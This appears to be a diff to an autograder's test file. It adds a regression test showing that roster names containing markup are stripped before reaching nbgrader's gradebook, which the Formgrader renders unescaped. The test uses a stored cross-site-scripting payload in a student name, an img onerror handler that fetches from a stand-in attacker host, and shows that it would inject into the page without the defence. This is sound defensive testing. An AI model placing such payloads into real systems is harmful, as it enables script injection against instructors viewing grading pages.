@@ -6,6 +6,8 @@
 - What a submission's code raises or leaves reaches the problems report and the terminal as one
   line about its own student: no escape sequence, no line of its own (autograder/engine/
   plain_text.py, ``Problem``), and a notebook's own metadata writes no line of the report.
+- Names from the roster reach nbgrader's gradebook, which the Formgrader writes into its pages
+  unescaped, without the characters of markup (autograder/engine/pipeline.py, ``MARKUP``).
 - Similarity compares everything a learner handed in: a copy in a cell added after the stub is
   found as a copy in the solution cell is (autograder/instructor/similarity.py).
 
@@ -19,12 +21,15 @@ import re
 import zipfile
 from pathlib import Path
 
+import jinja2
 import nbformat
+import nbgrader.server_extensions.formgrader as formgrader
 import pytest
 
 from autograder import lessons
 from autograder.authoring.samples import filled
 from autograder.engine import csv_files, execute, submission
+from autograder.engine import pipeline as pipeline_module
 from autograder.engine.judge import JUDGE_METADATA
 from autograder.engine.pipeline import Pipeline
 from autograder.engine.submission import Problem
@@ -356,3 +361,39 @@ def test_a_copy_moved_into_an_added_cell_is_flagged(tmp_path, monkeypatch):
     report = similarity.similarity(tmp_path, [lesson])
     assert [(p.similarity, p.flagged) for p in mover(report)] == [(1.0, True)]
     assert [p for p in report.flagged if "mover" not in (p.student_a, p.student_b)] == []
+
+
+MARKUP_NAME = 'Eve, <img src=x onerror="fetch(`//attacker.example`)">'
+
+
+def _formgrader_nav(first: str, last: str) -> str:
+    """nbgrader's own Formgrader macro for a submission's page, rendered with these names."""
+    folder = Path(formgrader.__file__).parent / "templates"
+    macros = jinja2.Environment(loader=jinja2.FileSystemLoader(folder)).get_template(
+        "formgrade/formgrade_macros.html.j2"
+    )
+    resources = {"first_name": first, "last_name": last, "index": 0, "student": "mallory", "total": 1}
+    return macros.module.nav(resources)
+
+
+def test_roster_names_reach_the_formgraders_gradebook_without_markup(graded, tmp_path, monkeypatch):
+    """The roster's names go into nbgrader's gradebook, which the Formgrader writes into its
+    submission page unescaped: a name holding markup would be the page's markup."""
+    roster = tmp_path / "roster.csv"
+    with roster.open("w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows([["student", "name", "email"], ["mallory", MARKUP_NAME, "m@x"]])
+
+    def mallory_in_the_gradebook() -> tuple[str, str]:
+        with graded.gradebook() as gb:
+            student = gb.find_student("mallory")
+            return student.first_name, student.last_name
+
+    monkeypatch.setattr(pipeline_module, "MARKUP", {})  # without the defence
+    graded.name_students(roster)
+    assert "<img src=x" in _formgrader_nav(*mallory_in_the_gradebook())
+    monkeypatch.undo()
+    graded.name_students(roster)
+    first, last = mallory_in_the_gradebook()
+    assert (last, first) == ("Eve", "img src=x onerror=fetch(//attacker.example)")
+    page = _formgrader_nav(first, last)
+    assert "<img" not in page and "Eve, img src=x" in page
